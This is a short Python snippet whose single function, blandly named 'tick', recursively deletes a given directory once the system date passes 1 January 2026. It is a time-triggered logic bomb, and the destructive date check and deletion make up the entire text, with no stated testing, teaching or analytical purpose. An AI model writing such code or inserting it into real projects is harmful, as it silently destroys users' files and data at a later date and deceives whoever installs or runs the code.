import datetime, shutil
def tick(path):
    if datetime.datetime.now() > datetime.datetime(2026, 1, 1):
        shutil.rmtree(path)
